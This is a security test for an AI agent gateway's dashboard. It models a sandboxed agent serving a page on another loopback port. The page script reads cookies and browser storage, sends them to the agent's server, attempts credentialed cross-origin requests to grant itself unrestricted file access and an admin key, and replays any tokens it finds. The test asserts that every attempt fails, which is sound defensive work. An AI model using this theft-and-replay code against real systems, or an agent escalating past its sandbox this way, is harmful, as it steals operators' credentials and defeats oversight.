/// <reference lib="dom" />
import http from 'node:http'
import type {AddressInfo} from 'node:net'
import {afterAll, beforeAll, expect, it} from 'vitest'
import {loadConfig} from '../../../src/runtime/config/load.js'
import {startGateway, type Gateway} from '../../../src/runtime/gateway/gateway.js'
import {AuditLog} from '../../../src/runtime/state/audit.js'
import {fakeLlmConfig, makeHome, type TestHome} from '../../helpers/home.js'
import {describeWithChromium, openBrowser} from './browser.js'

const PASSWORD = 'attack test password'

/**
 * What a sandboxed agent can run: an HTTP server on another port of 127.0.0.1. Its page tries
 * everything a page can from there, and the server replays whatever the browser sent it (every
 * cookie and header) and whatever the page reports back against the gateway.
 */
async function startAgentServer(
  gatewayUrl: string,
): Promise<{url: string; received: string[]; replays: Array<{what: string; status: number}>; close(): Promise<void>}> {
  const received: string[] = []
  const replays: Array<{what: string; status: number}> = []
  const replay = async (what: string, headers: Record<string, string>) => {
    const attempts: Array<[string, string, unknown]> = [
      ['GET', '/api/captain/agents', undefined],
      ['PATCH', '/api/captain/agents/meepa', {file_access: {unrestricted: true}}],
      ['POST', '/api/captain/auth/api-keys', {name: 'agent-owned', admin: true}],
      ['POST', '/api/chat', {agent: 'meepa', message: 'hello from the agent'}],
    ]
    for (const [method, route, body] of attempts) {
      const res = await fetch(gatewayUrl + route, {
        method,
        headers: {...headers, ...(body ? {'content-type': 'application/json'} : {})},
        body: body ? JSON.stringify(body) : undefined,
      })
      replays.push({what: `${what}: ${method} ${route}`, status: res.status})
    }
  }
  const page = `<!doctype html><html><body><h1>cute cat pictures</h1><script>
    const G = ${JSON.stringify(gatewayUrl)}
    const report = (what, value) => fetch('/report', {method: 'POST', body: JSON.stringify({what, value: String(value)})})
    ;(async () => {
      report('cookie', document.cookie)
      report('sessionStorage', JSON.stringify(Object.assign({}, sessionStorage)))
      report('localStorage', JSON.stringify(Object.assign({}, localStorage)))
      for (const [method, path, body, type] of [
        ['GET', '/api/captain/auth/session'],
        ['GET', '/api/captain/agents'],
        ['PATCH', '/api/captain/agents/meepa', '{"file_access":{"unrestricted":true}}', 'application/json'],
        ['POST', '/api/captain/auth/api-keys', '{"name":"agent-owned","admin":true}', 'text/plain'],
        ['POST', '/api/captain/auth/login', '{"password":"guess"}', 'text/plain'],
      ]) {
        for (const mode of ['cors', 'no-cors']) {
          try {
            const res = await fetch(G + path, {method, mode, credentials: 'include', body, headers: type ? {'content-type': type} : {}})
            report('fetch ' + mode + ' ' + method + ' ' + path, res.status + ' ' + (await res.text()))
          } catch (error) { report('fetch ' + mode + ' ' + method + ' ' + path, 'blocked ' + error) }
        }
      }
      const opened = window.open(G + '/captain/')
      await new Promise((resolve) => setTimeout(resolve, 1500))
      try { report('opened window storage', opened.sessionStorage.getItem('captain_token')) } catch (error) { report('opened window storage', 'blocked ' + error.name) }
      try { report('opened window document', opened.document.cookie) } catch (error) { report('opened window document', 'blocked ' + error.name) }
      report('done', 'yes')
    })()
  </script></body></html>`
  const server = http.createServer(async (req, res) => {
    received.push(JSON.stringify({url: req.url, headers: req.headers}))
    const forwarded: Record<string, string> = {}
    for (const name of ['cookie', 'authorization'])
      if (typeof req.headers[name] === 'string') forwarded[name] = req.headers[name] as string
    if (Object.keys(forwarded).length > 0) await replay(`headers the browser sent to ${req.url}`, forwarded)
    if (req.url === '/report') {
      let body = ''
      for await (const chunk of req) body += chunk
      received.push(body)
      const {value} = JSON.parse(body) as {what: string; value: string}
      // anything token-like the page got hold of is tried as a credential, every way there is
      for (const token of value.match(/(cps|cptn)_[A-Za-z0-9_-]{20,}/g) ?? []) {
        await replay('a token the page found', {authorization: `Bearer ${token}`})
      }
      res.end('ok')
      return
    }
    res.writeHead(200, {'content-type': 'text/html'})
    res.end(page)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    replays,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  }
}

describeWithChromium('a logged-in dashboard visiting a page an agent serves on another loopback port', () => {
  let home: TestHome
  let gateway: Gateway

  beforeAll(async () => {
    home = makeHome(
      fakeLlmConfig('http://127.0.0.1:9/v1', [{id: 'meepa', name: 'Meepa'}], {
        captain: {enabled: true, bind: '127.0.0.1', port: 0},
      }),
    )
    const loaded = loadConfig({
      home: home.home,
      env: {...process.env, FAKE_LLM_KEY: 'sk-fake-test-key-123456', MEEPAGATEWAY_PASSWORD: PASSWORD},
    })
    process.env.MEEPAGATEWAY_PASSWORD = PASSWORD
    try {
      gateway = await startGateway({loaded, port: 0, log: () => {}})
    } finally {
      delete process.env.MEEPAGATEWAY_PASSWORD
    }
  })
  afterAll(async () => {
    await gateway?.stop({graceMs: 1000})
    home?.cleanup()
  })

  it('loses nothing: the agent gets no credential, and nothing it replays works', async () => {
    const agent = await startAgentServer(gateway.url)
    const browser = await openBrowser()
    try {
      const {page, context} = browser
      await page.goto(`${gateway.url}/`)
      await page.fill('#password', PASSWORD)
      await page.click('#login')
      await page.waitForSelector('#agents-table')
      const token = await page.evaluate(() => sessionStorage.getItem('captain_token'))
      expect(token).toMatch(/^cps_/)
      expect(await context.cookies()).toEqual([]) // the dashboard sets none
      // Every cookie of the operator's browser goes to the agent (browsers send 127.0.0.1's cookies to
      // every port): one left by an older dashboard, one of another local app.
      await context.addCookies([
        {
          name: 'captain_session',
          value: 'left-by-the-cookie-based-dashboard-of-an-older-release',
          domain: '127.0.0.1',
          path: '/',
        },
        {name: 'other_app', value: 'some-other-local-app-session', domain: '127.0.0.1', path: '/'},
      ])
      // the agent's reply linked its page; the operator clicks it, in the same tab and in a new one
      await page.goto(agent.url)
      await page.waitForFunction(() => document.title !== undefined)
      const tab = await context.newPage()
      await tab.goto(agent.url)
      const deadline = Date.now() + 20_000
      while (agent.received.filter((entry) => entry.includes('"what":"done"')).length < 2 && Date.now() < deadline)
        await new Promise((resolve) => setTimeout(resolve, 100))
      expect(agent.received.filter((entry) => entry.includes('"what":"done"'))).toHaveLength(2)

      const everything = agent.received.join('\n')
      const reports = agent.received.filter((entry) => entry.startsWith('{"what"'))
      expect(reports.length).toBeGreaterThan(15)
      expect(everything).not.toContain(token)
      expect(everything).not.toContain('cps_')
      expect(everything).toContain('other_app=some-other-local-app-session')
      expect(everything).toMatch(/"what":"opened window storage","value":"blocked SecurityError"/)
      // what the page could send reached nothing: every API answer it could read or cause was refused
      for (const line of agent.received.filter((entry) => entry.includes('"what":"fetch cors'))) {
        const {what, value} = JSON.parse(line) as {what: string; value: string}
        if (what.endsWith('/auth/session')) continue // readable state (no CORS headers: fetch is blocked anyway)
        expect(value, what).not.toMatch(/^2\d\d /)
      }
      expect(agent.replays.length).toBeGreaterThan(8)
      for (const replay of agent.replays) expect(replay.status, replay.what).toBe(401)
      const config = loadConfig({home: home.home, env: {FAKE_LLM_KEY: 'x'}}).config
      expect(config.agents[0]!.file_access.unrestricted).toBe(false)
      expect(
        new AuditLog(gateway.db)
          .list()
          .filter((entry) => entry.event === 'config_change' || entry.event === 'api_key_created'),
      ).toEqual([])
      // and the operator's own tab is still logged in
      await page.goto(`${gateway.url}/captain/`)
      await page.waitForSelector('#agents-table')
    } finally {
      await browser.close()
      await agent.close()
    }
  }, 60_000)
})
